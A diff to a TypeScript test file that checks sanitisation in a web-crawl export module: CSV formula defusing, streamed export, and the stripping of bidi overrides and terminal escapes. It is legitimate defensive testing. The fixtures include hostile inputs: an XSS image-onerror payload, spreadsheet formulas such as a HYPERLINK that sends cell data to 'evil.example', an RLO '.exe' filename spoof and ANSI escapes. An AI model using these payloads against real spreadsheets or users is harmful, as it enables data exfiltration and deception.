@@ -2,6 +2,7 @@ import { parseHTML } from 'linkedom';
 import { describe, expect, it } from 'vitest';
 import {
   exportCrawl,
+  exportCrawlStream,
   exportFilename,
   slugify,
   toBookmarks,
@@ -17,6 +18,7 @@ import type { PageResult, SkipRecord } from '../../lib/engine/types';
 const CREATED = Date.UTC(2024, 4, 17, 12, 0, 0);
 
 const record: CrawlRecord = {
+  version: 2,
   id: 'crawl-1',
   name: '<img src=x onerror=alert(1)> "Solar" & \'panels\'',
   topic: { keywords: 'Énergie solaire: <b>panneaux</b> & [DIY]', language: 'fr' },
@@ -92,7 +94,7 @@ const collapse = (s: string): string =>
     .trim();
 
 /** A strict RFC 4180 parser: CRLF record ends only, quoted fields with doubled quotes, nothing after a closing quote. */
-function parseCsv(text: string): string[][] {
+function parseCsv(text: string, separator = ','): string[][] {
   const rows: string[][] = [];
   let row: string[] = [];
   let i = 0;
@@ -114,13 +116,13 @@ function parseCsv(text: string): string[][] {
         } else cell += text[i++];
       }
     } else {
-      while (i < n && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
+      while (i < n && text[i] !== separator && text[i] !== '\r' && text[i] !== '\n') {
         if (text[i] === '"') throw new Error(`bare quote in unquoted field at ${i}`);
         cell += text[i++];
       }
     }
     row.push(cell);
-    if (text[i] === ',') {
+    if (text[i] === separator) {
       i++;
     } else if (text.startsWith('\r\n', i)) {
       rows.push(row);
@@ -135,6 +137,25 @@ function parseCsv(text: string): string[][] {
 }
 
 const FORMULA_START = /^[=+\-@\t\r]/;
+
+/**
+ * The cells a lenient spreadsheet import sees when it splits a line on `separator`: quotes only group (a separator
+ * inside quotes does not split), and are then dropped.
+ */
+function spreadsheetCells(line: string, separator: string): string[] {
+  const cells: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (const c of line) {
+    if (c === '"') quoted = !quoted;
+    else if (c === separator && !quoted) {
+      cells.push(cell);
+      cell = '';
+    } else cell += c;
+  }
+  cells.push(cell);
+  return cells;
+}
 
 describe('CSV export', () => {
   const csv = toCsv(pages);
@@ -186,10 +207,119 @@ describe('CSV export', () => {
     expect(out[2][2]).toBe('-0.25');
   });
 
-  it('quotes exactly the cells that need it', () => {
-    const line = toCsv([page('plain, with comma', 0.5, { snippet: 'no quoting needed' })]).split('\r\n')[1];
-    expect(line).toContain(',"plain, with comma",');
-    expect(line.endsWith(',no quoting needed')).toBe(true);
+  it('quotes every text cell (OWASP), numbers and booleans stay bare', () => {
+    const line = toCsv([page('plain, with comma', 0.5, { snippet: 'plain' })]).split('\r\n')[1];
+    expect(line).toContain(',"plain, with comma",0.5,');
+    expect(line.endsWith(',"plain"')).toBe(true);
+    expect(line).toMatch(/,0\.5,\d,true,/);
+  });
+
+  it('defuses formulas behind invisible characters, full-width signs and a semicolon separator (OWASP, all of it)', () => {
+    const hostile = [
+      page('\u200b=1+1 after a zero-width space', 0.9),
+      page('\ufeff\u2060=cmd after BOM and word joiner', 0.89),
+      page('  =1+1 after spaces', 0.88),
+      page('\uff1dHYPERLINK("http://evil.example") full-width', 0.87),
+      page('\ufe66SUM(1) small form', 0.86),
+      page('\uff0b1 \uff0d1 \uff201', 0.85),
+      page('title;=HYPERLINK("http://evil.example/?x="&A1);@SUM(1)', 0.84, { snippet: 'a,=1+1;-2,+3' }),
+      page('\u0000=NUL first', 0.83),
+    ];
+    const text = toCsv(hostile).slice(1);
+    // Whichever separator the spreadsheet splits on, no cell starts with a formula character once leading spaces and
+    // invisible characters are skipped.
+    const trigger = /^[\s\u200b-\u200f\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]/;
+    for (const sep of [',', ';', '\t']) {
+      for (const line of text.split('\r\n').slice(1)) {
+        for (const cell of spreadsheetCells(line, sep)) {
+          expect(trigger.test(cell), `${JSON.stringify(sep)} cell ${JSON.stringify(cell)}`).toBe(false);
+        }
+      }
+    }
+    const titles = parseCsv(text)
+      .slice(1)
+      .map((r) => r[1]);
+    expect(titles[0]).toBe("'\u200b=1+1 after a zero-width space");
+    expect(titles[2]).toBe("'  =1+1 after spaces");
+    expect(titles[3].startsWith("'\uff1d")).toBe(true);
+    expect(titles[4].startsWith("'\ufe66")).toBe(true);
+    expect(titles[7]).toBe("'=NUL first"); // the NUL itself removed, the formula defused
+  });
+});
+
+describe('text safety in exports', () => {
+  const spoof = page('invoice x\u202Egnp.exe \u2066isolated\u2069 \u001b]0;title\u0007end', 0.5, {
+    snippet: 'snippet \u202Dforced\u202C \u001b[2Jclear',
+  });
+  const all = [spoof];
+
+  it('removes bidi overrides, isolates and terminal escapes from CSV, bookmarks and Markdown', () => {
+    for (const text of [toCsv(all), toBookmarks(record, all), toMarkdown(record, all)]) {
+      // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what must not be there
+      expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u001b\u0007]/);
+      expect(text).toContain('invoice xgnp.exe isolated end');
+    }
+  });
+
+  it('writes them as escapes in JSON: nothing displays reversed, and the data parses back unchanged', () => {
+    const json = toJson(record, all, []);
+    expect(json).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
+    expect(json).toContain('x\\u202egnp.exe');
+    expect((JSON.parse(json) as CrawlExport).pages[0].title).toBe(spoof.title);
+  });
+});
+
+describe('streamed export', () => {
+  it('writes the same file window by window as whole, for every format', async () => {
+    // Distinct scores: the store's order (best first) is then the one bestFirst gives.
+    const many = Array.from({ length: 237 }, (_, i) =>
+      page(i % 17 === 0 ? `=formula ${i}` : `Page ${i} \u202Espoof`, 1 - i / 1000, { noindex: i % 31 === 0 }),
+    );
+    const manySkips = Array.from(
+      { length: 111 },
+      (_, i): SkipRecord => ({
+        url: `https://example.com/s${i}`,
+        reason: 'url-refused',
+        detail: 'private address',
+        at: CREATED + i,
+      }),
+    );
+    const reads: string[] = [];
+    const reader = {
+      pages: async (offset: number, limit: number) => {
+        reads.push(`p${offset}+${limit}`);
+        return byScore(many).slice(offset, offset + limit);
+      },
+      skips: async (offset: number, limit: number) => {
+        reads.push(`s${offset}+${limit}`);
+        return manySkips.slice(offset, offset + limit);
+      },
+    };
+    for (const format of ['json', 'csv', 'bookmarks', 'markdown'] as const) {
+      reads.length = 0;
+      const whole = exportCrawl(format, record, many, manySkips, CREATED);
+      const streamed = exportCrawlStream(format, record, reader, { window: 50, now: CREATED });
+      let text = '';
+      for await (const piece of streamed.pieces) text += piece;
+      expect(text, format).toBe(whole.content);
+      expect(streamed.filename).toBe(whole.filename);
+      expect(reads.filter((r) => r.startsWith('p'))).toEqual(['p0+50', 'p50+50', 'p100+50', 'p150+50', 'p200+50']);
+      expect(reads.some((r) => r.startsWith('s'))).toBe(format === 'json');
+    }
+  });
+
+  it('makes JSON that is exactly JSON.stringify of the whole document', () => {
+    const doc = {
+      format: 'forager-crawl',
+      version: 1,
+      exportedAt: new Date(CREATED).toISOString(),
+      crawl: record,
+      pages: byScore(pages),
+      skips,
+    };
+    expect(toJson(record, pages, skips, CREATED)).toBe(`${JSON.stringify(doc, null, 2)}\n`);
+    const empty = { ...doc, pages: [], skips: [] };
+    expect(toJson(record, [], [], CREATED)).toBe(`${JSON.stringify(empty, null, 2)}\n`);
   });
 });
 
